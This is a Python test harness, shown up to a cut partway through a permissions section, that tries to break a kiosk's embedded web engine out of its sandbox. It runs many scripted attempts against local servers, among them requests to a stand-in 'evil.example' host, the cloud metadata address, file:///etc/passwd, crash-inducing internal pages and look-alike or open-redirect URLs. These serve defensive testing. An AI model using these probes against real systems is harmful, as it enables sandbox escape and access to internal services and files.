"""Program: every attempt of the field notes' §4.3 that a program can make, against the real engine.

``python -m tests.web_engine.escapes [ID ...]`` tries all (or those named) and prints one JSON object:
``{"attempts": [{"id", "name", "is_blocked", "note"}]}``. ``--quick`` tries one of each kind, ``--fenced``
those that need the resolver's fence, ``--table`` adds a table for people. The hostile city stands on local servers;
whatever name or number a page tries to reach that is not the city leads to the *evil* server, which
counts connections: a single one is an escape.
"""

# ruff: noqa: E501, UP031 - pages and scripts are data here
from __future__ import annotations

import sys
import tempfile
import time
import traceback
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from PySide6.QtCore import QMimeData, QPoint, QPointF, Qt, QUrl
from PySide6.QtGui import QDesktopServices, QDropEvent, QGuiApplication, QWheelEvent
from PySide6.QtTest import QTest

from kiosk.web.host import ClosePage, DialogAsked, GoBackInPage, OpenPage, PageEvent, PageFailed, PageRefused
from kiosk.web.policy import Allowance
from tests.web_engine.authority import Authority
from tests.web_engine.program import tell
from tests.web_engine.rig import City, Rig
from tests.web_engine.servers import Datagrams, Server

Key, Modifier = Qt.Key, Qt.KeyboardModifier
BASE = "https://city.example/"
START = """<!doctype html><html lang=ko><title>시청</title><meta charset=utf-8>
<style>body{margin:0;font:20px sans-serif}a,button,input,select,img{display:block;width:400px;height:60px;margin:0}</style>
<div id=slot style="height:60px"></div><h1 style="margin:0;height:60px">시청</h1><div id=more></div>
<div style="height:3000px"></div>"""
#: Where ``#slot`` stands on the window, in px.
SLOT = QPoint(120, 25)


class _Opener:
    """What the system would open outside of the program."""

    def __init__(self) -> None:
        self.opened: list[str] = []


@dataclass
class Stage:
    """All that an attempt may use."""

    rig: Rig
    city: Server
    evil: Server
    datagrams: Datagrams
    is_fenced: bool = False
    outside: list[str] = field(default_factory=list)
    #: What was counted up to the last attempt: what arrives late is held against the next one.
    counted: tuple[int, int, int] = (0, 0, 0)

    def fresh(self, address: str = BASE) -> None:
        """Begin with the city's page, and forget what was before."""
        self.rig.close()
        assert self.rig.open(address), self.rig.events[-1:]
        self.rig.wait(0.05)
        self.rig.events.clear()

    def put(self, html: str) -> None:
        """Put something into the slot of the page."""
        script = f"(e => {{ e.innerHTML = {js(html)}; for (const old of e.querySelectorAll('script')) {{"
        script += "const s = document.createElement('script'); s.textContent = old.textContent;"
        script += "old.replaceWith(s) } })(document.querySelector('#slot'))"
        self.rig.run(script)

    def click(self, *modifiers: Any, button: Any = Qt.MouseButton.LeftButton, at: QPoint = SLOT) -> None:
        """Press what stands in the slot with a mouse."""
        mask = Modifier.NoModifier
        for each in modifiers:
            mask |= each
        QTest.mouseClick(self.rig.window.window, button, mask, at)
        self.rig.wait(0.15)

    def key(self, key: Any, *modifiers: Any) -> None:
        """Press a key."""
        mask = Modifier.NoModifier
        for each in modifiers:
            mask |= each
        QTest.keyClick(self.rig.window.window, key, mask)
        self.rig.wait(0.02)

    def heard(self, kind: type[PageEvent]) -> list[Any]:
        """Return what the flow was told."""
        return [event for event in self.rig.events if isinstance(event, kind)]

    def asked(self, kind: str) -> bool:
        """Whether the flow was told of a dialog of this kind."""
        return any(event.kind == kind for event in self.heard(DialogAsked))

    @property
    def windows(self) -> int:
        """How many windows are on the glass."""
        return sum(window.isVisible() for window in QGuiApplication.topLevelWindows())

    def trouble(self) -> str:
        """Say what has got out, or "" when nothing has."""
        found = []
        now = (self.evil.connections, self.datagrams.count, len(self.outside))
        connections, datagrams, outside = (one - old for one, old in zip(now, self.counted, strict=True))
        self.counted = now
        if connections:
            found.append(f"{connections} connections, {self.evil.seen()[-3:]}")
        if datagrams:
            found.append(f"{datagrams} datagrams")
        if outside:
            found.append(f"opened outside: {self.outside[-3:]}")
        if self.windows != 1:
            found.append(f"{self.windows} windows")
        where = self.rig.run("location.origin + ' ' + document.querySelectorAll('h1').length")
        if where != "https://city.example 1":
            found.append(f"the page is at {where}")
        return "; ".join(found)


def js(text: str) -> str:
    import json

    return json.dumps(text).replace("</", "<\\/")


def in_every_way(address: str) -> str:
    """Return a script that goes to an address as page, frame and window."""
    frame = js(f"<iframe src='{address}'></iframe>")
    return (
        f"document.body.insertAdjacentHTML('beforeend', {frame});"
        f"try {{ window.open({js(address)}) }} catch {{ }}; location.href = {js(address)}"
    )


Attempt = Callable[[Stage], str]
ATTEMPTS: list[tuple[str, str, Attempt]] = []


def attempt(id: str, name: str) -> Callable[[Attempt], Attempt]:  # noqa: A002
    def keep(function: Attempt) -> Attempt:
        ATTEMPTS.append((id, name, function))
        return function

    return keep


def each(id: str, name: str, values: dict[str, str], how: Callable[[Stage, str], str]) -> None:  # noqa: A002
    """One attempt for each value."""
    for label, value in values.items():
        ATTEMPTS.append((id, f"{name}: {label}", lambda stage, value=value: how(stage, value)))


def by_script(stage: Stage, script: str) -> str:
    stage.fresh()
    stage.rig.run(script)
    stage.rig.wait(0.2)
    return stage.trouble()


def by_html(stage: Stage, html: str) -> str:
    stage.fresh()
    stage.put(html)
    stage.rig.wait(0.2)
    return stage.trouble()


def by_click(stage: Stage, html: str) -> str:
    stage.fresh()
    stage.put(html)
    stage.rig.wait(0.03)
    stage.click()
    stage.rig.wait(0.1)
    return stage.trouble()


# -- D: browser keys ------------------------------------------------------------------------------------

CONTROL = "I J C U S O P N T W L H D F R Q E G K M B"


@attempt("D22", "function keys and shortcuts of browsers")
def browser_keys(stage: Stage) -> str:
    stage.fresh()
    stage.put("<input id=f value=abc>")
    stage.click()
    before = stage.rig.run("history.length + ' ' + innerWidth + ' ' + devicePixelRatio")
    for number in (1, 3, 5, 6, 7, 11, 12):
        stage.key(getattr(Key, f"Key_F{number}"))
        stage.key(getattr(Key, f"Key_F{number}"), Modifier.ControlModifier)
    for letter in CONTROL.split():
        stage.key(getattr(Key, f"Key_{letter}"), Modifier.ControlModifier)
        stage.key(getattr(Key, f"Key_{letter}"), Modifier.ControlModifier, Modifier.ShiftModifier)
    stage.rig.wait(0.3)
    after = stage.rig.run("history.length + ' ' + innerWidth + ' ' + devicePixelRatio")
    events = [event for event in stage.rig.events if not isinstance(event, DialogAsked)]
    loaded = [event for event in events if type(event).__name__ in ("PageLoading", "PageFailed")]
    return (
        stage.trouble()
        or ("" if before == after else f"{before} -> {after}")
        or (str(loaded) if loaded else "")
    )


@attempt("D23", "context menus by key, mouse and long press")
def context_menus(stage: Stage) -> str:
    stage.fresh()
    things = ("<a href=/x>l</a>", "<input value=abc>", "<img alt=p style='background:red'>", "<p>text</p>")
    for thing in things:
        stage.put(thing)
        stage.rig.wait(0.1)
        before = stage.rig.window.window.grabWindow()
        stage.click(button=Qt.MouseButton.RightButton)
        stage.key(Key.Key_Menu)
        stage.key(Key.Key_F10, Modifier.ShiftModifier)
        device = _touch_device()
        QTest.touchEvent(stage.rig.window.window, device).press(1, SLOT, stage.rig.window.window).commit()
        stage.rig.wait(0.9)
        held = stage.rig.window.window.grabWindow()
        QTest.touchEvent(stage.rig.window.window, device).release(1, SLOT, stage.rig.window.window).commit()
        stage.rig.wait(0.1)
        if _changed(before, held) > 0.15:
            return f"something opened over {thing}: {_changed(before, held):.2f}"
        if found := stage.trouble():
            return found
    return ""


def _changed(one: Any, other: Any) -> float:
    """Share of the sampled pixels below the slot that differ: a menu is larger than a text cursor."""
    points = [(x, y) for x in range(4, 900, 16) for y in range(4, 500, 16)]
    return sum(one.pixelColor(x, y) != other.pixelColor(x, y) for x, y in points) / len(points)


_DEVICES: list[Any] = []


def _touch_device() -> Any:
    if not _DEVICES:
        _DEVICES.append(QTest.createTouchDevice())
    return _DEVICES[0]


def _zoom(stage: Stage) -> str:
    return str(stage.rig.run("devicePixelRatio + ' ' + visualViewport.scale + ' ' + innerWidth"))


@attempt("D24", "Ctrl with wheel, plus, minus and zero")
def wheel_zoom(stage: Stage) -> str:
    stage.fresh()
    before = _zoom(stage)
    for step in (120, 120, -120, 240):
        wheel = QWheelEvent(
            QPointF(300, 300), QPointF(300, 300), QPoint(0, step), QPoint(0, step), Qt.MouseButton.NoButton,
            Modifier.ControlModifier, Qt.ScrollPhase.NoScrollPhase, False,
        )  # fmt: skip
        QGuiApplication.sendEvent(stage.rig.window.window, wheel)
        stage.rig.wait(0.05)
    for key in (Key.Key_Plus, Key.Key_Minus, Key.Key_0, Key.Key_Equal):
        stage.key(key, Modifier.ControlModifier)
    stage.rig.wait(0.2)
    return stage.trouble() or ("" if _zoom(stage) == before else f"{before} -> {_zoom(stage)}")


@attempt("D24", "two fingers spread on the page")
def pinch(stage: Stage) -> str:
    stage.fresh()
    before = _zoom(stage)
    window, device = stage.rig.window.window, _touch_device()
    middle = QPoint(400, 400)
    QTest.touchEvent(window, device).press(1, middle, window).press(
        2, middle + QPoint(40, 0), window
    ).commit()
    for step in range(1, 12):
        away = QPoint(20 * step, 0)
        sequence = QTest.touchEvent(window, device)
        sequence.move(1, middle - away, window).move(2, middle + QPoint(40, 0) + away, window).commit()
        stage.rig.wait(0.02)
    QTest.touchEvent(window, device).release(1, middle, window).release(2, middle, window).commit()
    stage.rig.wait(0.2)
    return stage.trouble() or ("" if _zoom(stage) == before else f"{before} -> {_zoom(stage)}")


@attempt("D25", "history by Alt, Backspace, mouse buttons and Back keys")
def history_keys(stage: Stage) -> str:
    stage.fresh()
    stage.rig.run("location.href = '/second'")
    stage.rig.wait_until(lambda: stage.rig.run("location.pathname") == "/second", 5)
    for key, modifier in (
        (Key.Key_Left, Modifier.AltModifier), (Key.Key_Right, Modifier.AltModifier),
        (Key.Key_Backspace, Modifier.NoModifier), (Key.Key_Backspace, Modifier.ShiftModifier),
        (Key.Key_Forward, Modifier.NoModifier),
    ):  # fmt: skip
        stage.key(key, modifier)
    for button in (Qt.MouseButton.BackButton, Qt.MouseButton.ForwardButton):
        stage.click(button=button)
    stage.rig.wait(0.2)
    where = stage.rig.run("location.pathname")
    return stage.trouble() or ("" if where == "/second" else f"went to {where}")


@attempt("D25", "our own Back never leaves the first address")
def back_past_the_start(stage: Stage) -> str:
    stage.fresh()
    for _ in range(4):
        stage.rig.host.carry_out(GoBackInPage())
        stage.rig.wait(0.15)
    return stage.trouble()


@attempt("D28", "Tab past the last and the first thing of a page")
def tab_past_the_end(stage: Stage) -> str:
    """Focus goes round within the page: it never lands on anything that the page does not show."""
    stage.fresh()
    stage.put("<input id=a value=abc><a href=/x>l</a><button>b</button>")
    stage.click()
    seen = set()
    for modifiers in ((), (Modifier.ShiftModifier,)):
        for _ in range(12):
            stage.key(Key.Key_Tab, *modifiers)
            seen.add(str(stage.rig.run("document.activeElement.tagName")))
    strange = seen - {"INPUT", "A", "BUTTON", "BODY", "H1"}
    return stage.trouble() or (f"focus on {strange}" if strange else "")


@attempt("D27", "full screen and pointer lock")
def full_screen(stage: Stage) -> str:
    stage.fresh()
    stage.put(
        '<button onclick="this.requestFullscreen().catch(e=>window.r=e.name);this.requestPointerLock()">x</button>'
    )
    stage.click()
    stage.key(Key.Key_Escape)
    found = stage.rig.run("String(document.fullscreenElement) + String(document.pointerLockElement)")
    is_full = bool(stage.rig.window.window.windowState() & Qt.WindowState.WindowFullScreen)
    return stage.trouble() or ("" if found == "nullnull" and not is_full else f"{found} {is_full}")


# -- E: addresses ---------------------------------------------------------------------------------------

EVIL = "http://evil.example/"
TO_EVIL = {
    "location": f"location.href = {js(EVIL)}",
    "location.replace": f"location.replace({js(EVIL)})",
    "https": "location.href = 'https://evil.example/'",
    "form post": f"(f => {{ f.method = 'post'; f.action = {js(EVIL)}; document.body.append(f); f.submit() }})(document.createElement('form'))",
    "meta refresh": f"document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url={EVIL}\">')",
    "base and a relative link": f"document.head.insertAdjacentHTML('beforeend', '<base href={EVIL}>'); location.href = 'x'",
    "top of a frame": f"(f => {{ f.srcdoc = '<script>top.location = {js(EVIL)}<' + '/script>'; document.body.append(f) }})(document.createElement('iframe'))",
    "pushState": f"try {{ history.pushState(0, '', {js(EVIL)}) }} catch {{ }}",
    "document.open": "document.domain; try { document.cookie = 'x=1;domain=evil.example' } catch { }",
    "navigation API": f"try {{ navigation.navigate({js(EVIL)}) }} catch {{ }}",
}
FRAMES = {
    "iframe": f"<iframe src={EVIL}></iframe>",
    "iframe over TLS": "<iframe src=https://evil.example/></iframe>",
    "frame within a data frame": "<iframe src='data:text/html,<iframe src=http://evil.example/></iframe>'></iframe>",
    "object": f"<object data={EVIL} type=text/html></object>",
    "embed": f"<embed src={EVIL} type=text/html>",
    "frame that redirects": "<iframe src=/hop3></iframe>",
    "frame that goes there itself": "<iframe srcdoc='<script>location=\"http://evil.example/\"</script>'></iframe>",
    "frameset": f"<iframe srcdoc='<frameset><frame src={EVIL}></frameset>'></iframe>",
    "fenced frame": f"<fencedframe src={EVIL}></fencedframe>",
}
each("E29", "the whole page goes to a foreign host", TO_EVIL, by_script)
each("E29", "a frame goes to a foreign host", FRAMES, by_html)
each("E29", "a pressed link", {"link": f"<a href={EVIL}>x</a>", "form": f"<form action={EVIL}><button>x</button></form>",
     "image map": f"<map name=m><area href={EVIL} coords=0,0,400,60></map><img usemap=#m src=/dot.png>",
     "svg link": f"<svg width=400 height=60><a href={EVIL}><rect width=400 height=60 /></a></svg>",
     "formaction": f"<form><button formaction={EVIL}>x</button></form>"}, by_click)  # fmt: skip
each("E30", "redirects", {
    "allowed, allowed, foreign": "location.href = '/hop1'",
    "fetch that is redirected": "fetch('/hop3', {mode: 'no-cors'}).catch(() => 0)",
    "307 with a form": "(f => { f.method = 'post'; f.action = '/hop307'; document.body.append(f); f.submit() })(document.createElement('form'))",
    "refresh header": "location.href = '/refresh'",
    "worker script that is redirected": "try { new Worker('/hop3') } catch { }",
}, lambda stage, script: _after_hops(stage, script))  # fmt: skip
each("E31", "open redirect of an allowed host", {
    "?url=": "location.href = '/go?url=http://evil.example/'",
    "?url= encoded": "location.href = '/go?url=http%3A%2F%2Fevil.example%2F'",
    "//host": "location.href = '/go?url=//evil.example/'",
    "backslashes": "location.href = '/go?url=/%5Cevil.example/'",
}, lambda stage, script: _after_hops(stage, script))  # fmt: skip


def _after_hops(stage: Stage, script: str) -> str:
    stage.fresh()
    stage.rig.run(script)
    stage.rig.wait(0.6)
    found = stage.trouble()
    if "the page is at" not in found:
        return found
    # A page whose load was refused half-way shows nothing: that is no escape, being elsewhere is.
    where = stage.rig.run("location.origin", patience=1)
    return "" if where in ("https://city.example", "null", TimeoutError) and found.count(";") == 0 else found


LOOK_ALIKES = (
    "http://city.example.evil.example/", "http://evilcity.example/", "http://city.example@evil.example/",
    "http://city.example:80@evil.example/", "http://city.example%40evil.example/", "http://city.example./",
    "http://city.example:8080/", "http://city.example:443/", "http://CITY.EXAMPLE.evil.example/", "http://xn--ity-zfa.example/",
    "http://cіty.example/", "http://city。example.evil.example/", "http://127.0.0.1/", "http://2130706433/",
    "http://0x7f.1/", "http://017700000001/", "http://[::1]/", "http://[::ffff:127.0.0.1]/", "http://0/",
    "http://user:pw@city.example/", "http://city.example\\\\@evil.example/", "http:///evil.example/",
    "http:evil.example", "//evil.example/", "\\\\\\\\evil.example/", "http://evil.example#city.example",
    "http://evil.example?city.example/", "http://evil.example/city.example/", "http://evil.example;city.example/",
    "ht\\ntp://evil.example/", "http://city.example.evil.example:80/", "ws://evil.example/",
    "https://city.example.:443/", "http://sub.city.example/", "http://city-example/",
)  # fmt: skip
each("E32", "look-alike", {text: text for text in LOOK_ALIKES}, lambda stage, text: _look_alike(stage, text))


def _look_alike(stage: Stage, text: str) -> str:
    found = by_script(stage, f'try {{ location.href = "{text}" }} catch {{ }}')
    if found:
        return f"page: {found}"
    stage.fresh()
    raw = text.encode().decode("unicode_escape") if "\\" in text else text
    stage.rig.host.carry_out(OpenPage(raw, "city"))
    stage.rig.wait(0.3)
    found = stage.trouble()
    return f"entry: {found}" if found else ""


each("E33", "the allowed address stands in a forbidden one", {
    "query": "location.href = 'http://evil.example/?https://city.example/'",
    "fragment": "location.href = 'http://evil.example/#https://city.example/'",
    "path": "location.href = 'http://evil.example/https://city.example/'",
    "user": "location.href = 'http://city.example:pw@evil.example/'",
}, by_script)  # fmt: skip

SCHEMES = (
    "file:///etc/passwd", "chrome://gpu", "chrome://net-internals", "chrome://version", "devtools://devtools/bundled/inspector.html",
    "view-source:https://city.example/", "qrc:/qtwebchannel/qwebchannel.js", "about:blank", "about:version", "javascript:document.body.remove()",
    "data:text/html,<h2>x</h2>", "filesystem:https://city.example/temporary/x", "ftp://evil.example/", "intent://evil.example#Intent;end",
    "chrome-extension://x/y", "chrome-untrusted://print", "isolated-app://x", "externalfile:x", "content://x", "cid:x", "mhtml:http://evil.example/",
    "chrome://process-internals", "chrome://webrtc-internals", "chrome://user-actions", "chrome://crash", "chrome://kill", "chrome://hang", "qthelp://x/",
)  # fmt: skip
each("E34", "scheme from a page", {text: text for text in SCHEMES if not text.startswith("javascript")},
     lambda stage, text: by_script(stage, in_every_way(text)))  # fmt: skip
each(
    "E34",
    "scheme from an entry of our own",
    {text: text for text in SCHEMES},
    lambda stage, text: _entry(stage, text),
)


def _entry(stage: Stage, text: str) -> str:
    stage.fresh()
    stage.rig.host.carry_out(OpenPage(text, "city"))
    stage.rig.wait(0.3)
    refused = stage.heard(PageRefused)
    return stage.trouble() or ("" if refused else "not refused")


each("E35", "pages that a script builds", {
    "blob page": "location.href = URL.createObjectURL(new Blob(['<h2>x</h2>'], {type: 'text/html'}))",
    "blob page in a window": "window.open(URL.createObjectURL(new Blob(['<h2>x</h2>'], {type: 'text/html'})))",
    "blob frame that fetches": "(f => { f.src = URL.createObjectURL(new Blob(['<script>fetch(\"http://evil.example/\",{mode:\"no-cors\"});new Image().src=\"http://evil.example/i\"<' + '/script>'], {type: 'text/html'})); document.body.append(f) })(document.createElement('iframe'))",
    "srcdoc frame that fetches": "(f => { f.srcdoc = '<img src=http://evil.example/i><script>fetch(\"http://evil.example/\",{mode:\"no-cors\"})<' + '/script><link rel=stylesheet href=http://evil.example/c><iframe src=http://evil.example/f></iframe>'; document.body.append(f) })(document.createElement('iframe'))",
    "blob worker that fetches": "new Worker(URL.createObjectURL(new Blob(['fetch(\"http://evil.example/\",{mode:\"no-cors\"}).catch(()=>0);try{importScripts(\"http://evil.example/s.js\")}catch{};try{new WebSocket(\"ws://evil.example/\")}catch{}'])))",
    "data worker that fetches": "try { new Worker('data:text/javascript,fetch(\"http://evil.example/\",{mode:\"no-cors\"})') } catch { }",
    "document.write into a frame": "(f => { document.body.append(f); f.contentDocument.write('<img src=http://evil.example/i><iframe src=http://evil.example/></iframe>') })(document.createElement('iframe'))",
}, by_script)  # fmt: skip

TARGETS = (
    "http://evil.example/", "https://evil.example/", "http://127.0.0.1/", "http://127.0.0.1:9222/json", "http://localhost/",
    "http://localhost:8080/", "http://[::1]/", "http://169.254.169.254/latest/meta-data/", "http://192.168.0.1/",
    "http://10.0.0.1/", "http://100.64.0.1/", "http://printer.local/", "http://router/", "http://0.0.0.0/",
)  # fmt: skip
SILENT = """
  const u = %s, host = u.replace(/^https?:/, "");
  const ways = [
    () => fetch(u, {mode: "no-cors"}), () => fetch(u, {method: "POST", body: "x", mode: "no-cors", keepalive: true}),
    () => { const x = new XMLHttpRequest(); x.open("GET", u); x.send() },
    () => new WebSocket("ws:" + host), () => new WebSocket("wss:" + host), () => navigator.sendBeacon(u, "x"),
    () => new EventSource(u), () => { new Image().src = u + "i.png" },
    () => import(u + "m.js").catch(() => 0), () => new FontFace("f", "url(" + u + "f)").load().catch(() => 0),
    () => { const a = new Audio(u + "a"); a.play().catch(() => 0) },
  ];
  for (const way of ways) { try { const r = way(); if (r && r.catch) r.catch(() => 0) } catch { } }
  for (const html of ["<script src=" + u + "s.js><" + "/script>", "<link rel=stylesheet href=" + u + "c>",
    "<link rel=preload as=image href=" + u + "p>", "<link rel=prefetch href=" + u + "q>", PRECONNECT,
    "<link rel=dns-prefetch href=" + u + ">", "<link rel=modulepreload href=" + u + "mm>", "<link rel=prerender href=" + u + "r>",
    "<link rel=icon href=" + u + "icon>", "<link rel=manifest href=" + u + "manifest>", "<video src=" + u + "v autoplay muted></video>",
    "<img srcset='" + u + "ss 1x'>", "<style>@import url(" + u + "im);body{background:url(" + u + "bg)}</style>",
    "<svg><image href=" + u + "svg /><use href=" + u + "use#x /></svg>", "<input type=image src=" + u + "ii>", "<track src=" + u + "t>"]) {
    const t = document.createElement("div"); t.innerHTML = html
    for (const e of [...t.children]) {
      if (e.tagName === "SCRIPT") { const s = document.createElement("script"); s.src = e.src; document.head.append(s) }
      else document.head.append(e)
    }
  }
  const rules = document.createElement("script"); rules.type = "speculationrules"
  rules.textContent = JSON.stringify({prefetch: [{source: "list", urls: [u]}], prerender: [{source: "list", urls: [u]}]})
  document.head.append(rules)
"""
each("E36", "fetch, socket, beacon, picture, prefetch, preconnect to", {text: text for text in TARGETS},
     lambda stage, text: _silent(stage, text))  # fmt: skip


def _silent(stage: Stage, target: str) -> str:
    stage.fresh()
    stage.rig.run("(() => {" + silent(target) + "})()")
    stage.rig.wait(0.4)
    return stage.trouble()


def silent(target: str, *, is_fenced: bool = False) -> str:
    """Return a script that reaches for an address in every way.

    Hints to connect ahead (``preconnect``) are in no hook of the engine; what holds them is the fence,
    so they are tried where it stands.
    """
    preconnect = "'<link rel=preconnect href=' + u + '>'" if is_fenced else "''"
    return SILENT.replace("PRECONNECT", preconnect) % js(target)


@attempt("E36", "WebRTC to this machine and to a foreign one")
def webrtc(stage: Stage) -> str:
    stage.fresh()
    stage.rig.run(
        """(() => {
      const take = w => w.RTCPeerConnection || w.webkitRTCPeerConnection
      const f = document.createElement("iframe"); document.body.append(f)
      window.found = String(!!take(window)) + String(!!take(f.contentWindow))
      for (const kind of [take(window), take(f.contentWindow)]) if (kind) {
        const c = new kind({iceServers: [{urls: ["stun:127.0.0.1:%d", "stun:evil.example:%d",
          "turn:127.0.0.1:%d?transport=tcp"], username: "u", credential: "p"}]})
        c.createDataChannel("x"); c.createOffer().then(o => c.setLocalDescription(o))
        c.onicecandidate = e => { if (e.candidate) window.candidate = e.candidate.candidate }
      }
    })()"""
        % (stage.datagrams.port, stage.datagrams.port, stage.evil.port)
    )
    stage.rig.wait(1.2)
    candidate = stage.rig.run("String(window.candidate)")
    leaks = "" if candidate in ("undefined", "None") or ".local" in candidate else f"an address: {candidate}"
    return stage.trouble() or leaks


#: Tried where the resolver's fence stands, as it does on every terminal.
FENCED = ("M68", "E36")


@attempt("E36", "WebTransport, which no request hook sees")
def webtransport(stage: Stage) -> str:
    stage.fresh()
    stage.rig.run(
        """(() => {
      const f = document.createElement("iframe"); document.body.append(f)
      for (const w of [window, f.contentWindow]) if (w.WebTransport) for (const host of ["evil.example", "127.0.0.1"]) {
        try { new w.WebTransport("https://" + host + ":%d/").ready.catch(() => 0) } catch { } }
      new Worker(URL.createObjectURL(new Blob(['try{new WebTransport("https://127.0.0.1:%d/").ready.catch(()=>0)}catch{}'])))
    })()"""
        % (stage.datagrams.port, stage.datagrams.port)
    )
    stage.rig.wait(1.0)
    return stage.trouble()


@attempt("E37", "a service worker that would stay")
def service_worker(stage: Stage) -> str:
    stage.fresh()
    stage.rig.run(
        """(async () => {
      const f = document.createElement("iframe"); document.body.append(f)
      window.r = []
      for (const w of [window, f.contentWindow]) {
        try { const c = w.navigator.serviceWorker || Object.getOwnPropertyDescriptor(w.Navigator.prototype, "serviceWorker").get.call(w.navigator)
          await c.register("/worker.js"); window.r.push("registered") } catch (e) { window.r.push(e.name) }
      }
    })()"""
    )
    found = stage.rig.wait_until(
        lambda: stage.rig.run("window.r && window.r.length > 1 && window.r.join()"), 5
    )
    return stage.trouble() or ("registered" if "registered" in str(found) else "")


@attempt("E38", "a certificate that nobody trusts")
def bad_certificate(stage: Stage) -> str:
    stage.fresh()
    stage.rig.host.carry_out(OpenPage("https://forged.example/", "city"))
    failed = stage.rig.wait_for(PageFailed, 5)
    return "" if failed is not None and failed.kind == "certificate" else f"{stage.rig.events}"


@attempt("E38", "http where the city has said https")
def downgrade(stage: Stage) -> str:
    stage.fresh()
    stage.rig.run("location.href = 'http://secure.example/'")
    stage.rig.wait(0.3)
    stage.rig.host.carry_out(OpenPage("http://secure.example/", "city"))
    stage.rig.wait(0.3)
    return stage.trouble() or ("" if len(stage.heard(PageRefused)) == 2 else "not refused")


@attempt("E39", "a server that asks for a name and password")
def http_auth(stage: Stage) -> str:
    stage.fresh()
    stage.rig.run(
        "fetch('/auth').then(r => window.r = r.status); document.querySelector('#slot').innerHTML = '<iframe src=/auth></iframe>'"
    )
    stage.rig.wait(0.6)
    sent = [headers for _, _, headers, _ in stage.city.requests if "Authorization" in headers]
    return stage.trouble() or ("" if stage.asked("auth") and not sent else "no event")


# -- F: windows -----------------------------------------------------------------------------------------


@attempt("F40", "new windows, by script and by every kind of click")
def new_windows(stage: Stage) -> str:
    stage.fresh()
    stage.rig.run(
        "window.r = [window.open('/second'), window.open('/second', 'w', 'popup,width=300,height=300')].map(String).join()"
    )
    stage.rig.wait(0.3)
    found = stage.trouble()
    for modifiers in ((), (Modifier.ControlModifier,), (Modifier.ShiftModifier,),
                      (Modifier.ControlModifier, Modifier.ShiftModifier)):  # fmt: skip
        stage.fresh()
        stage.put("<a target=_blank href=/second>x</a>")
        stage.click(*modifiers)
        stage.rig.wait(0.2)
        found = found or ("" if stage.windows == 1 else f"{stage.windows} windows")
    stage.fresh()
    stage.put("<a href=/second>x</a>")
    stage.click(button=Qt.MouseButton.MiddleButton)
    return found or stage.trouble()


each("F41", "a window at a foreign host", {
    "link": f"<a target=_blank href={EVIL}>x</a>",
    "script": f"<button onclick=\"window.open('{EVIL}')\">x</button>",
    "blank first": f"<button onclick=\"let w=window.open('');try{{w.location='{EVIL}'}}catch{{}}\">x</button>",
    "form": f"<form target=_blank action={EVIL}><button>x</button></form>",
    "noopener": f"<a target=_blank rel=noopener href={EVIL}>x</a>",
    "named": f"<a target=other href={EVIL}>x</a>",
}, by_click)  # fmt: skip


@attempt("F42", "window.close and window.opener")
def closing(stage: Stage) -> str:
    return by_script(stage, "window.close(); self.close(); try { window.opener.location = 'http://evil.example/' } catch { }; "
                            "window.moveTo(0, 0); window.resizeTo(100, 100); window.focus(); window.blur()")  # fmt: skip


each("F43", "picture in picture", {
    "document": "<button onclick=\"try{documentPictureInPicture.requestWindow()}catch{}\">x</button>",
    "video": "<button onclick=\"let v=document.createElement('video');document.body.append(v);try{v.requestPictureInPicture().catch(()=>0)}catch{}\">x</button>",
}, by_click)  # fmt: skip


@attempt("F44", "a link or file dropped on the page")
def drop(stage: Stage) -> str:
    stage.fresh()
    for address in ("http://evil.example/", "file:///etc/passwd"):
        data = QMimeData()
        data.setUrls([QUrl(address)])
        data.setText(address)
        event = QDropEvent(
            QPointF(300, 300), Qt.DropAction.CopyAction, data, Qt.MouseButton.LeftButton, Modifier.NoModifier
        )
        QGuiApplication.sendEvent(stage.rig.window.window, event)
        stage.rig.wait(0.2)
    return stage.trouble()


# -- G: dialogs -------------------------------------------------------------------------------------------


def _asks(stage: Stage, html: str, kind: str, done: str = "") -> str:
    stage.fresh()
    stage.put(html)
    stage.click()
    stage.rig.wait(0.3)
    return stage.trouble() or ("" if stage.asked(kind) else f"the flow was not told of {kind}")


@attempt("G45", "file choosers")
def files(stage: Stage) -> str:
    found = ""
    for more in ("", "multiple", "webkitdirectory", "capture accept=image/*"):
        found = found or _asks(stage, f"<input type=file {more}>", "file")
    for call in ("showOpenFilePicker", "showSaveFilePicker", "showDirectoryPicker"):
        found = found or by_click(
            stage, f'<button onclick="try{{{call}().catch(()=>0)}}catch{{}}">x</button>'
        )
    return found


@attempt("G46", "colour chooser")
def colours(stage: Stage) -> str:
    return by_click(stage, "<input type=color>") or by_click(
        stage,
        "<button onclick=\"let i=document.createElement('input');i.type='color';document.body.append(i);i.click();try{i.showPicker()}catch{};try{new EyeDropper().open().catch(()=>0)}catch{}\">x</button>",
    )


@attempt("G47", "146 alerts, and prompts without end")
def alert_storm(stage: Stage) -> str:
    stage.fresh()
    from kiosk.web.host import AnswerDialog

    stage.rig.run(
        "setTimeout(() => { for (let i = 0; i < 146; i++) { alert(i); confirm(i); prompt(i) } window.over = 1 }, 50)",
        patience=1,
    )
    for _ in range(20):
        stage.rig.wait(0.15)
        for event in stage.heard(DialogAsked):
            stage.rig.host.carry_out(AnswerDialog(event.dialog, True))
        if stage.rig.run("window.over", patience=0.3) == 1:
            break
    asked = len(stage.heard(DialogAsked))
    return stage.trouble() or ("" if asked <= 3 else f"{asked} dialogs")


@attempt("G48", "beforeunload holds nobody")
def before_unload(stage: Stage) -> str:
    stage.fresh()
    stage.put("<button>x</button>")
    stage.click()
    stage.rig.run(
        "onbeforeunload = e => { e.preventDefault(); e.returnValue = 'stay'; return 'stay' }; onunload = () => { for (;;) ; }"
    )
    stage.click()
    start = time.perf_counter()
    stage.rig.host.carry_out(OpenPage(BASE + "second", "city"))
    gone = stage.rig.wait_until(lambda: any(getattr(e, "snapshot", None) for e in stage.rig.events), 5)
    took = time.perf_counter() - start
    events = list(stage.rig.events)
    stage.fresh()
    stage.rig.run("onbeforeunload = () => 'stay'")
    stage.rig.host.carry_out(ClosePage())
    return "" if gone and took < 3 and stage.rig.host.is_gone else f"{took:.1f} s, {events}"


PERMISSIONS = """
(async () => {
  const tries = {
    location: () => new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no)),
    notifications: async () => { if (await Notification.requestPermission() !== "granted") throw 1 },
    camera: () => navigator.mediaDevices.getUserMedia({video: true}), microphone: () => navigator.mediaDevices.getUserMedia({audio: true}),
    screen: () => navigator.mediaDevices.getDisplayMedia(), read: () => navigator.clipboard.readText(),
